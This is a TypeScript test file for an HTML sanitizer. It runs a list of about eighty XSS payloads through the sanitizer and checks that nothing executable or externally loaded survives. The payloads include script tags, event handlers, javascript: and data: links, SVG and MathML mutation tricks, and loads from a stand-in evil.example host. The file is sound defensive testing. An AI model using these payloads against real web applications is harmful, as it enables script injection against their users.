import * as fc from 'fast-check';
import { type DefaultTreeAdapterTypes as Tree, html as parse5Html, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { safeHtmlOf, textOfHtml } from '../support/converted-html.ts';

const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'rel'],
  abbr: ['title'],
  li: ['value'],
  ol: ['start', 'type'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
  ...Object.fromEntries(
    [
      'b blockquote br caption cite code dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd mark p pre q s samp small',
      'strong sub sup table tbody tfoot thead tr u ul var',
    ]
      .flatMap((names) => names.split(' '))
      .map((name) => [name, []]),
  ),
};
const LINK = /^(https?:\/\/|mailto:)/;

/** Returns everything dangerous that a browser would find in the HTML. Uses another parser than the sanitizer. */
function dangersIn(html: string): string[] {
  return [true, false].flatMap((scriptingEnabled) =>
    parseFragment(html, { scriptingEnabled }).childNodes.flatMap(dangersOf),
  );
}

function dangersOf(node: Tree.ChildNode): string[] {
  if (node.nodeName === '#text') return [];
  if (!('tagName' in node)) return [node.nodeName];
  const allowed = ALLOWED[node.tagName];
  const isHtml = node.namespaceURI === parse5Html.NS.HTML;
  if (allowed === undefined || !isHtml) return [`<${node.tagName}>`, ...node.childNodes.flatMap(dangersOf)];
  const attributes = node.attrs.filter(
    ({ name, value }) => !allowed.includes(name) || (name === 'href' && !LINK.test(value)),
  );
  return [...attributes.map(({ name, value }) => `${name}=${value}`), ...node.childNodes.flatMap(dangersOf)];
}

const VECTORS: readonly (readonly [what: string, html: string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in any case and with odd spaces', '<ScRiPt\n/x src=//evil.example/x.js></sCrIpT\t>'],
  ['a nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script without an end tag', '<script>alert(1)'],
  ['a script with a control character in its name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['an event handler', '<img src=x onerror=alert(1)>'],
  ['an event handler without spaces', '<svg/onload=alert(1)>'],
  ['an event handler of an allowed element', '<p onmouseover="alert(1)" ONCLICK=alert(1)>x</p>'],
  ['an event handler after a slash', '<a/onclick=alert(1)/href=https://a.example>x</a>'],
  ['an event handler after a quote', '<a href="https://a.example""onclick=alert(1)>x</a>'],
  ['an event handler in a backtick', '<img src=`x` `onerror=alert(1)`>'],
  ['a focus handler that runs by itself', '<input autofocus onfocus=alert(1)>'],
  ['an animation handler', '<p style="animation:x" onanimationstart=alert(1)>x</p>'],
  ['a toggle handler', '<details open ontoggle=alert(1)>x</details>'],
  ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript: link in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a javascript: link in entities', '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>'],
  ['a javascript: link in entities without semicolons', '<a href="&#0000106avascript:alert(1)">x</a>'],
  [
    'a javascript: link after spaces and control characters',
    '<a href=" &#1;\u0001\tjavascript:alert(1)">x</a>',
  ],
  ['a javascript: link with line ends in it', '<a href="java&#10;scr&Tab;ipt&NewLine;:alert(1)">x</a>'],
  [
    'a javascript: link as a duplicate attribute',
    '<a href="https://a.example" href="javascript:alert(1)">x</a>',
  ],
  ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ['a file: link', '<a href="file:///etc/passwd">x</a>'],
  ['a blob: link', '<a href="blob:https://a.example/1">x</a>'],
  ['a view-source: link', '<a href="view-source:https://a.example">x</a>'],
  ['a link without a protocol', '<a href="//evil.example">x</a>'],
  ['a link with backslashes', '<a href="\\\\evil.example">x</a>'],
  ['a link in SVG', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['a link in an image map', '<map name=x><area href="javascript:alert(1)" alt=x></map>'],
  ['a link in MathML', '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['a style sheet', '<style>@import url(//evil.example);</style>'],
  ['a style with script', '<p style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">x</p>'],
  ['a style with a URL', '<p style="background:url(https://evil.example/x)">x</p>'],
  ['a linked style sheet', '<link rel=stylesheet href=//evil.example/x.css>'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['a base', '<base href="javascript:/a/+alert(1)//"><a href="x">x</a>'],
  ['an external image', '<img src="https://evil.example/pixel.gif" alt="">'],
  ['an image element by its old name', '<image src="https://evil.example/pixel.gif">'],
  [
    'an image source set',
    '<img srcset="https://evil.example/a 1x"><picture><source srcset=//evil.example></picture>',
  ],
  ['a data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  [
    'a background',
    '<table background="https://evil.example/x"><tr><td background=javascript:alert(1)>x</table>',
  ],
  [
    'a form',
    '<form action="https://evil.example"><input name=x><button formaction=javascript:alert(1)>x</button></form>',
  ],
  ['a frame', '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['frames', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  [
    'an object',
    '<object data="javascript:alert(1)"><param name=x value=y></object><embed src=//evil.example/x.swf>',
  ],
  [
    'audio and video',
    '<video poster=//evil.example><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  ],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a shadow root', '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>'],
  ['a noscript element', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x'],
  ['a title', '<title><p title="</title><img src=x onerror=alert(1)>"></title>'],
  ['a textarea', '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  [
    'raw text',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><script>alert(1)</script>',
  ],
  ['a noframes element', '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>'],
  ['an option', '<select><option selected>&lt;img src=x onerror=alert(1)&gt;</select>'],
  [
    'text that is markup once it is decoded',
    '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  ],
  [
    'an attribute that is markup once it is decoded',
    '<abbr title="&quot;><img src=x onerror=alert(1)>">x</abbr>',
  ],
  ['alternative text that is markup', '<img alt="<img src=x onerror=alert(1)>">'],
  ['a field value that is markup', '<input value="<img src=x onerror=alert(1)>">'],
  ['a comment', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['a comment that ends at once', '<!--><script>alert(1)</script>--><!---><img src=x onerror=alert(1)>-->'],
  ['a comment that ends oddly', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['a comment without an end', 'x<!--<script>alert(1)</script>'],
  ['a CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a CDATA section in SVG', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><?php echo "<script>" ?>'],
  ['a declaration', '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;'],
  ['a tag without an end', '<p title="x'],
  ['a tag in a tag', '<<p>script>alert(1)<</p>/script>'],
  [
    'a style in a formula',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'a formula in a form',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  ],
  ['a style in SVG', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'a title in a drawing',
    '<svg><title><style><img src="</style><img src=x onerror=alert(1)>"></title></svg>',
  ],
  [
    'HTML in a drawing',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  [
    'HTML in a formula',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  ],
  [
    'an animated link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ],
  ['a use element in SVG', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  ['a custom element', '<x-y onclick=alert(1) is=x>x</x-y>'],
  [
    'names that shadow DOM properties',
    '<a id=cookie name=location href=https://a.example>x</a><form name=body></form>',
  ],
  ['prototype attributes', '<p __proto__=x constructor=y onclick=z>x</p>'],
  [
    'editing and dragging attributes',
    '<p contenteditable draggable=true tabindex=0 accesskey=x popover>x</p>',
  ],
];

describe('safe HTML of a hostile note [T3-T6]', () => {
  it('the check finds what a browser would run or load', () => {
    expect(
      dangersIn('<p onclick=x>a</p><a href="javascript:x">b</a><svg><p>c</p></svg><!-- d -->'),
    ).toContain('onclick=x');
    expect(dangersIn('<p>a</p><a href="https://a.example" rel="nofollow">b</a>')).toEqual([]);
  });

  it.each(VECTORS)('nothing that runs or loads is left of %s', (_what, html) => {
    const sanitized = safeHtmlOf(html);
    expect(dangersIn(sanitized)).toEqual([]);
    expect(dangersIn(`<table><tr><td>${sanitized}</td></tr></table>`)).toEqual([]);
    expect(safeHtmlOf(sanitized)).toBe(sanitized);
  });

  it('scripts and styles do not become text either', () => {
    const html = '<style>p{color:red}</style>a<script>alert(1)</script><template>t</template>b';
    expect(safeHtmlOf(html)).toBe('ab');
    expect(safeHtmlOf(`${'<div>'.repeat(1_000)}${html}`)).toMatch(/ab(<\/div>)*$/);
  });

  it('no combination of these is dangerous, and sanitizing again changes nothing', () => {
    const vector = fc.constantFrom(...VECTORS.map(([, html]) => html));
    const cut = fc
      .tuple(vector, fc.nat(), fc.nat())
      .map(([html, from, to]) => html.slice(from % 40, to % 80));
    fc.assert(
      fc.property(fc.array(fc.oneof(vector, cut, cut, markup()), { maxLength: 12 }), (pieces) => {
        const sanitized = safeHtmlOf(pieces.join(''));
        expect(dangersIn(sanitized)).toEqual([]);
        expect(safeHtmlOf(sanitized)).toBe(sanitized);
      }),
      { numRuns: 1_000 },
    );
  });

  it('no string is dangerous, and sanitizing again changes nothing', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (html) => {
        const sanitized = safeHtmlOf(html);
        expect(dangersIn(sanitized)).toEqual([]);
        expect(safeHtmlOf(sanitized)).toBe(sanitized);
        expect(textOfHtml(html).isWellFormed()).toBe(true);
      }),
    );
  });
});

/** Tags of every kind, randomly opened and closed, including those that parsers treat differently. */
function markup(): fc.Arbitrary<string> {
  const names = [
    'p div span font b i s sup table caption thead tbody tr th td ul ol li dl dt dd a abbr pre br hr img input h1 h2',
    'script style svg math title template noscript textarea xmp select option form button body html head iframe object',
    'foreignObject desc mtext annotation-xml mglyph center listing plaintext',
  ].flatMap((line) => line.split(' '));
  const attributes = [
    ' href="https://a.example/?x=1&y=2"',
    ' href=javascript:alert(1)',
    ' style="font-weight:bold;vertical-align:super;white-space:pre"',
    ' style=white-space:pre-line;text-decoration:line-through',
    ' colspan=2 start=3 type=a value=7',
    ' alt="<b>x" title="&quot;>"',
    ' selected checked',
    ' /',
  ];
  const texts = [
    'x',
    ' ',
    '\n',
    '  y',
    '&lt;',
    '&amp;lt;',
    '&nbsp;',
    '1',
    '<!--',
    '-->',
    ']]>',
    '<!',
    '<?',
    '</',
    '<',
    '"',
    '\0',
    '\ud800',
  ];
  const tag = fc.tuple(fc.constantFrom(...names), fc.constantFrom('', ...attributes));
  return fc.oneof(
    tag.map(([name, attribute]) => `<${name}${attribute}>`),
    fc.constantFrom(...names).map((name) => `</${name}>`),
    fc.constantFrom(...texts),
  );
}
